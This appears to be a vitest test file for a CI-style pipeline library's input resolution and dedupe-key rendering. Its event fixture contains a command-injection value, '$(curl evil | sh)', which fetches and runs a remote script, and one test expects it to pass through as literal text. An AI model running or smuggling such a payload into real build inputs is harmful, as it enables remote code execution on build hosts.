// Inputs handed to a pipeline when a trigger fires: rendered from the event, defaults added,
// required, type and enum checked, with a reason that names the input; and dedupe keys.
import { describe, expect, it } from 'vitest';
import type { Pipeline } from '../../schemas/index.js';
import { dedupeKey } from './dedupe.js';
import { createEvent, eventView } from './normalized-event.js';
import { resolveInputs } from './resolve-inputs.js';

const deploy: Pipeline = {
  apiVersion: 'eventops.dev/v1',
  kind: 'Pipeline',
  metadata: { name: 'deploy' },
  spec: {
    inputs: [
      { name: 'ref', type: 'string', required: true },
      { name: 'env', type: 'string', enum: ['staging', 'prod'], default: 'staging' },
      { name: 'count', type: 'integer', default: 1 },
      { name: 'run-tests', type: 'boolean', default: true },
      { name: 'targets', type: 'array' },
      { name: 'note' },
    ],
    tasks: [{ name: 't', commands: ['true'] }],
  },
};

const event = createEvent({
  id: 'e-1',
  source: 'api',
  type: 'deploy.requested',
  labels: { env: 'prod' },
  body: { sha: '3f9c2e1', number: 7, targets: ['eu', 'us'], title: '$(curl evil | sh)', env: 'qa' },
  receivedAt: new Date(0),
});
const context = { event: eventView(event), trigger: { name: 'deploy-requested' } };

describe('resolveInputs', () => {
  it('renders expressions over event.body and trigger, keeps a sole expression\'s type, and adds defaults in declared order', () => {
    const result = resolveInputs(deploy, { ref: '${{ event.body.sha }}', env: '${{ event.labels.env }}', targets: '${{ event.body.targets }}', note: 'by ${{ trigger.name }}: ${{ event.body.title }}' }, context);
    expect(result).toEqual({
      ok: true,
      inputs: { ref: '3f9c2e1', env: 'prod', count: 1, 'run-tests': true, targets: ['eu', 'us'], note: 'by deploy-requested: $(curl evil | sh)' },
    });
    expect(Object.keys(result.ok ? result.inputs : {})).toEqual(['ref', 'env', 'count', 'run-tests', 'targets', 'note']);
  });

  it('gives a number to a string input as its text', () => {
    expect(resolveInputs(deploy, { ref: '${{ event.body.number }}' }, context)).toMatchObject({ ok: true, inputs: { ref: '7' } });
  });

  it('fails when a required input is missing', () => {
    expect(resolveInputs(deploy, { env: 'prod' }, context)).toEqual({ ok: false, reason: 'pipeline deploy: input ref: required, and the trigger gives no value (and the pipeline no default)' });
  });

  it('fails on a value outside the enum', () => {
    expect(resolveInputs(deploy, { ref: 'main', env: '${{ event.body.env }}' }, context)).toEqual({ ok: false, reason: 'pipeline deploy: input env: "qa" is not one of ["staging", "prod"]' });
  });

  it('fails on a value of the wrong type', () => {
    expect(resolveInputs(deploy, { ref: 'main', count: '${{ event.body.sha }}' }, context)).toEqual({ ok: false, reason: 'pipeline deploy: input count: declared integer, but the value "3f9c2e1" is text' });
    expect(resolveInputs(deploy, { ref: '${{ event.body.targets }}' }, context)).toEqual({ ok: false, reason: 'pipeline deploy: input ref: declared string, but the value ["eu","us"] is a list' });
    expect(resolveInputs(deploy, { ref: 'main', 'run-tests': 'yes' }, context)).toMatchObject({ ok: false, reason: 'pipeline deploy: input run-tests: declared boolean, but the value "yes" is text' });
  });

  it('fails with the expression\'s error when it cannot be evaluated', () => {
    const result = resolveInputs(deploy, { ref: '${{ event.body.after }}' }, context);
    expect(result.ok).toBe(false);
    expect(!result.ok && result.reason).toMatch(/^pipeline deploy: input ref: .*after.* in `\$\{\{ event\.body\.after \}\}`$/);
  });

  it('fails on an input the pipeline does not declare', () => {
    expect(resolveInputs(deploy, { ref: 'main', colour: 'red' }, context)).toEqual({ ok: false, reason: 'pipeline deploy: input colour: the pipeline declares no such input; its inputs are: ref, env, count, run-tests, targets, note' });
  });
});

describe('dedupeKey', () => {
  it('renders the key as text', () => {
    expect(dedupeKey("${{ event.labels.env + '/' + event.body.sha }}", context)).toEqual({ ok: true, key: 'prod/3f9c2e1' });
    expect(dedupeKey('${{ event.body.number }}', context)).toEqual({ ok: true, key: '7' });
    expect(dedupeKey('pr-${{ event.body.number }}-${{ trigger.name }}', context)).toEqual({ ok: true, key: 'pr-7-deploy-requested' });
  });

  it('refuses a key that fails or is empty', () => {
    expect(dedupeKey('${{ event.body.after }}', context)).toMatchObject({ ok: false, reason: expect.stringMatching(/^dedupe: .*after/) });
    expect(dedupeKey("${{ '' }}", context)).toEqual({ ok: false, reason: "dedupe: `${{ '' }}` gave an empty key" });
  });
});
